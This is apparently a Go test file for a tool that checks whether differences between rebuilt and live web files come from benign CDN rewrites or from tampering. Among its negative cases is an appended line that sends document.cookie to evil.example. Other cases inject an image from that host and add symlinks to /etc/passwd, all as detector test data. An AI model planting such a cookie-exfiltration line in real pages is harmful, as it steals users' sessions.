package diagnose

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

const page = `<!doctype html>
<html>
  <head>
    <title>KMS</title>
    <!-- build 42 -->
    <script type="module" integrity="sha384-x" src="/kms.js"></script>
  </head>
  <body>
    <p>Contact <a href="mailto:security@example.com">us</a>.</p>
    <p>Or <span>security@example.com</span></p>
  </body>
</html>
`

const script = `// kms enclave
/* build banner */
export function check(a, b) {
  if (a === b) {
    return true;
  }
  const re = /a b+/g;
  const s = "x  y";
  return a + ++b > 3;
}
`

func cfEncode(key byte, s string) string {
	out := []byte{key}
	for i := 0; i < len(s); i++ {
		out = append(out, s[i]^key)
	}
	const hexd = "0123456789abcdef"
	var sb strings.Builder
	for _, c := range out {
		sb.WriteByte(hexd[c>>4])
		sb.WriteByte(hexd[c&15])
	}
	return sb.String()
}

func TestRewrite(t *testing.T) {
	t.Parallel()
	beacon := `<script defer src="https://static.cloudflareinsights.com/beacon.min.js/v84a3a40" data-cf-beacon='{"token":"abc"}'></script>`
	withBeacon := strings.Replace(page, "  </body>", "  "+beacon+"\n  </body>", 1)
	emailed := strings.Replace(page, `href="mailto:security@example.com"`, `href="/cdn-cgi/l/email-protection#`+cfEncode(0x5a, "security@example.com")+`"`, 1)
	emailed = strings.Replace(emailed, `<span>security@example.com</span>`, `<span><span class="__cf_email__" data-cfemail="`+cfEncode(0x21, "security@example.com")+`">[email&#160;protected]</span></span>`, 1)
	emailed = strings.Replace(emailed, "</body>", `<script data-cfasync="false" src="/cdn-cgi/scripts/5c5dd728/cloudflare-static/email-decode.min.js"></script></body>`, 1)
	badEmail := strings.Replace(emailed, cfEncode(0x5a, "security@example.com"), cfEncode(0x5a, "attacker@example.com"), 1)
	flip := func(s string, at int) string { b := []byte(s); b[at] ^= 1; return string(b) }
	// A minified copy of script: whitespace and comments gone, tokens kept.
	minScript := `export function check(a,b){if(a===b){return true}const re=/a b+/g;const s="x  y";return a+ ++b>3}`
	latin1 := "caf\xe9 cr\xe8me\n"
	utf8Text := "café crème\n"
	tests := []struct {
		name, file, ct string
		rebuilt, live  string
		want           string
	}{
		{"identical is no rewrite", "index.html", "text/html", page, page, ""},
		{"beacon before </body>", "index.html", "text/html; charset=utf-8", page, withBeacon, RewriteInjected},
		{"two injected scripts", "index.html", "text/html", page, strings.Replace(page, "</body>", beacon+"<script>window.x=1</script></body>", 1), RewriteInjected},
		{"injected markup that is not a script", "index.html", "text/html", page, strings.Replace(page, "</body>", `<img src="https://evil.example/x"></body>`, 1), ""},
		{"script injected into <head> is not a CDN beacon", "index.html", "text/html", page, strings.Replace(page, "</head>", beacon+"</head>", 1), ""},
		{"beacon plus a changed byte elsewhere", "index.html", "text/html", page, strings.Replace(withBeacon, "Contact", "Contakt", 1), ""},
		{"script injected into a JavaScript file", "kms.js", "text/javascript", script, script + beacon, ""},
		{"email obfuscation", "index.html", "text/html", page, emailed, RewriteEmail},
		{"email obfuscation with another address", "index.html", "text/html", page, badEmail, ""},
		{"email obfuscation and a beacon", "index.html", "text/html", page, strings.Replace(emailed, "</body>", beacon+"</body>", 1), RewriteEmail + "+" + RewriteInjected},
		{"trailing whitespace stripped", "kms.js", "text/javascript", strings.ReplaceAll(script, ";\n", ";  \n"), script, RewriteWhitespace},
		{"CRLF to LF", "kms.js", "", strings.ReplaceAll(script, "\n", "\r\n"), script, RewriteWhitespace},
		{"indentation removed everywhere", "kms.js", "", script, stripIndent(script), RewriteWhitespace},
		{"one line's indentation changed", "kms.js", "", script, strings.Replace(script, "    return true", "   return true", 1), ""},
		{"one trailing space removed (the only one)", "kms.js", "", strings.Replace(script, "return true;", "return true; ", 1), script, ""},
		{"one blank line removed (the only one)", "kms.js", "", strings.Replace(script, "  }\n", "  }\n\n", 1), script, ""},
		{"one tab collapsed in an inline script", "index.html", "text/html", "<p>a</p>\n<script>s = \"a\tb\"</script>\n", "<p>a</p>\n<script>s = \"a b\"</script>\n", ""},
		{"a whole comment line removed", "index.html", "text/html", "<p>a</p>\n<!-- x -->\n<p>b</p>\n", "<p>a</p>\n<p>b</p>\n", RewriteComments},
		{"html comment removed", "index.html", "text/html", page, strings.Replace(page, "    <!-- build 42 -->\n", "", 1), RewriteComments},
		{"html whitespace collapsed", "index.html", "text/html", page, collapseHTML(page), RewriteWhitespace},
		{"js whole-line comments removed", "kms.js", "", script, strings.Replace(strings.Replace(script, "// kms enclave\n", "", 1), "/* build banner */\n", "", 1), RewriteComments},
		{"spaces inside a JS string collapsed", "kms.js", "", script, strings.Replace(script, `"x  y"`, `"x y"`, 1), ""},
		{"minified", "kms.js", "application/javascript", script, minScript, RewriteMinifier},
		{"minified, with a regex changed", "kms.js", "", script, strings.Replace(minScript, "/a b+/", "/ab+/", 1), ""},
		{"minified, with + ++ merged", "kms.js", "", script, strings.Replace(minScript, "a+ ++b", "a+++b", 1), ""},
		{"minified across return's line break", "kms.js", "", "function f(){\n  return\n  42;\n}\n// padding padding padding padding padding\n", "function f(){return 42;}", ""},
		{"minified, a string changed", "kms.js", "", script, strings.Replace(minScript, `"x  y"`, `"x y"`, 1), ""},
		{"minified with an added comment", "kms.js", "", script, minScript + "/*evil*/", ""},
		{"css minified", "a.css", "text/css", ".a > .b {\n  color: red;\n  margin: 0 auto;\n}\n\n/* footer */\n.c, .d {\n  padding: 1px;\n}\n", ".a>.b{color: red;margin: 0 auto}.c,.d{padding: 1px}", RewriteMinifier},
		{"css descendant turned into compound", "a.css", "text/css", ".a .b {\n  color: red;\n  margin: 0 auto;\n}\n\n/* footer footer footer */\n", ".a.b{color: red;margin: 0 auto}", ""},
		{"latin-1 re-encoding", "a.txt", "text/plain; charset=ISO-8859-1", utf8Text, latin1, RewriteCharset},
		{"latin-1 served as UTF-8", "a.txt", "text/plain; charset=utf-8", latin1, utf8Text, RewriteCharset},
		{"byte order mark added", "kms.js", "", script, "\xef\xbb\xbf" + script, RewriteCharset},
		{"charset header but other bytes", "a.txt", "text/plain; charset=ISO-8859-1", utf8Text, "caf\xe9 cr\xe9me\n", ""},
		{"one flipped byte in a script", "kms.js", "text/javascript", script, flip(script, 40), ""},
		{"one flipped byte in a page", "index.html", "text/html", page, flip(page, 100), ""},
		{"a binary file", "a.bin", "", "\x00\x01\x02 ", "\x00\x01\x02", ""},
		{"appended code", "kms.js", "", script, script + "fetch('https://evil.example/'+document.cookie)\n", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := Rewrite(tt.file, []byte(tt.rebuilt), []byte(tt.live), tt.ct); got != tt.want {
				t.Errorf("Rewrite = %q, want %q", got, tt.want)
			}
		})
	}
}

func stripIndent(s string) string {
	lines := strings.Split(s, "\n")
	for i, l := range lines {
		lines[i] = strings.TrimLeft(l, " ")
	}
	return strings.Join(lines, "\n")
}

func collapseHTML(s string) string {
	lines := strings.Split(s, "\n")
	var out []string
	for _, l := range lines {
		l = strings.TrimSpace(l)
		if l != "" {
			out = append(out, l)
		}
	}
	return strings.Join(out, "\n") + "\n"
}

// Hostile input stays bounded: huge files are not looked at, and the
// worst case within the bound finishes quickly.
func TestRewriteBounded(t *testing.T) {
	t.Parallel()
	big := bytes.Repeat([]byte("a "), MaxRewriteInput)
	if got := Rewrite("a.js", big, big[1:], ""); got != "" {
		t.Errorf("over the bound: %q", got)
	}
	// Within the bound: many lines that normalise alike force the subset search.
	lines := bytes.Repeat([]byte(" x = 1; \n"), MaxRewriteInput/16)
	start := time.Now()
	_ = Rewrite("a.css", lines, append(bytes.TrimSpace(lines), 'y'), "text/css")
	_ = Rewrite("a.js", bytes.Repeat([]byte("`${`${"), 1<<16), []byte("x"), "")
	_ = Rewrite("a.html", bytes.Repeat([]byte("</body>"), 1<<18), bytes.Repeat([]byte("</body><script>"), 1<<17), "text/html")
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("took %s", d)
	}
}

func TestDecide(t *testing.T) {
	t.Parallel()
	rb := &Rollback{Tag: "v1.0.0", Behind: 1, How: "rebuild"}
	tests := []struct {
		name     string
		f        Facts
		reason   string
		accepted bool
		inconc   bool
	}{
		{"nothing explains it", Facts{SecondRebuild: ReproSame}, ReasonTampered, false, false},
		{"second rebuild failed", Facts{}, ReasonTampered, false, false},
		{"nondeterministic", Facts{SecondRebuild: ReproDiffers, Rewrite: RewriteInjected, Rollback: rb}, ReasonNotReproducible, false, true},
		{"rollback", Facts{SecondRebuild: ReproSame, Rollback: rb, Rewrite: RewriteWhitespace}, ReasonRollback, false, false},
		{"rollback allowed", Facts{SecondRebuild: ReproSame, Rollback: rb, AllowPrevious: 1}, ReasonRollback, true, false},
		{"rollback too far back", Facts{SecondRebuild: ReproSame, Rollback: &Rollback{Tag: "v0.9", Behind: 2}, AllowPrevious: 1}, ReasonRollback, false, false},
		{"rewrite", Facts{SecondRebuild: ReproSame, Rewrite: RewriteInjected}, ReasonCDNRewrite, false, false},
	}
	for _, tt := range tests {
		o := Decide(tt.f)
		if o.Reason != tt.reason || o.Accepted != tt.accepted || o.Inconclusive != tt.inconc || o.Summary == "" {
			t.Errorf("%s: %+v", tt.name, o)
		}
	}
}

func TestUnifiedDiff(t *testing.T) {
	t.Parallel()
	a := []byte("one\ntwo\nthree\nfour\nfive\nsix\nseven\n")
	b := []byte("one\ntwo\nthree\nfour\nFIVE\nsix\nseven\n")
	d := UnifiedDiff("rebuilt/x", "live/x", a, b, 3)
	want := "--- rebuilt/x\n+++ live/x\n@@ -2,6 +2,6 @@\n two\n three\n four\n-five\n+FIVE\n six\n seven\n"
	if d.Text != want {
		t.Errorf("diff:\n%s\nwant:\n%s", d.Text, want)
	}
	if strings.Join(d.FirstLines, "|") != "-five|+FIVE" {
		t.Errorf("first lines %q", d.FirstLines)
	}
	// A one-line minified bundle is split at DiffWidth, so the diff points at the change.
	long := bytes.Repeat([]byte("abcdefghij"), 100)
	changed := append([]byte(nil), long...)
	changed[555] = 'X'
	d = UnifiedDiff("a", "b", long, changed, 2)
	if len(d.FirstLines) != 2 || len(d.FirstLines[0]) > DiffWidth+1 || !strings.Contains(d.FirstLines[1], "X") {
		t.Errorf("long line diff: %q", d.FirstLines)
	}
	if UnifiedDiff("a", "b", a, a, 2).Text != "" {
		t.Error("identical files gave a diff")
	}
	huge := UnifiedDiff("a", "b", bytes.Repeat([]byte("x\n"), 1<<20), bytes.Repeat([]byte("y\n"), 1<<20), 2)
	if !huge.Truncated || len(huge.Text) > MaxDiffOutput+64 {
		t.Errorf("huge diff not capped: %d bytes", len(huge.Text))
	}
}

func TestSplitLinesKeepsRunes(t *testing.T) {
	t.Parallel()
	s := strings.Repeat("é", 200)
	for _, l := range SplitLines([]byte(s), 7) {
		if !strings.HasPrefix(s, l) && l != "" && !strings.HasPrefix(l, "é") {
			t.Fatalf("split inside a rune: %q", l)
		}
	}
}

func TestCompareTrees(t *testing.T) {
	t.Parallel()
	a := fstest.MapFS{
		"dist/app.js":     {Data: []byte("same")},
		"dist/stamp.txt":  {Data: []byte("12:00")},
		"dist/only-a.txt": {Data: []byte("a")},
		".git/HEAD":       {Data: []byte("x")},
	}
	b := fstest.MapFS{
		"dist/app.js":     {Data: []byte("same")},
		"dist/stamp.txt":  {Data: []byte("12:01")},
		"dist/only-b.txt": {Data: []byte("b")},
		".git/HEAD":       {Data: []byte("y")},
	}
	d, err := CompareTrees(a, b, func(p string) bool { return p == ".git" })
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(d.Differing, ","); got != "dist/only-a.txt,dist/only-b.txt,dist/stamp.txt" || d.Count != 3 {
		t.Errorf("differing %q (%d)", got, d.Count)
	}
	// Symbolic links are compared by target, never followed.
	dirA, dirB := t.TempDir(), t.TempDir()
	if err := os.Symlink("/etc/passwd", filepath.Join(dirA, "l")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/hostname", filepath.Join(dirB, "l")); err != nil {
		t.Fatal(err)
	}
	d, err = CompareTrees(os.DirFS(dirA), os.DirFS(dirB), nil)
	if err != nil || len(d.Differing) != 1 || d.Differing[0] != "l" {
		t.Errorf("symlinks: %+v %v", d, err)
	}
}

func TestInjectedSources(t *testing.T) {
	t.Parallel()
	live := strings.Replace(page, "</body>", `<script defer src="https://static.cloudflareinsights.com/beacon.min.js"></script><script>x()</script><script src='/cdn-cgi/a.js'></script></body>`, 1)
	got := InjectedSources([]byte(page), []byte(live))
	if strings.Join(got, ",") != "https://static.cloudflareinsights.com/beacon.min.js,/cdn-cgi/a.js" {
		t.Errorf("sources %q", got)
	}
	if InjectedSources([]byte(page), []byte(strings.Replace(page, "<head>", "<head><script src=/x.js></script>", 1))) != nil {
		t.Error("a script in the head is not a CDN injection")
	}
}

// FuzzRewrite: no input makes the recognisers panic, and identical bytes
// are never a rewrite.
func FuzzRewrite(f *testing.F) {
	f.Add("kms.js", script, strings.Replace(script, "a + ++b", "a+++b", 1), "")
	f.Add("index.html", page, strings.Replace(page, "</body>", "<script src=x></script></body>", 1), "text/html")
	f.Add("a.css", "a { b: c }\n", "a{b:c}", "text/css; charset=latin1")
	f.Add("a.js", "`${`${'", "`", "")
	f.Fuzz(func(t *testing.T, name, a, b, ct string) {
		got := Rewrite(name, []byte(a), []byte(b), ct)
		if a == b && got != "" {
			t.Fatalf("identical bytes recognised as %q", got)
		}
		_ = InjectedSources([]byte(a), []byte(b))
		_ = UnifiedDiff("a", "b", []byte(a), []byte(b), 3)
	})
}
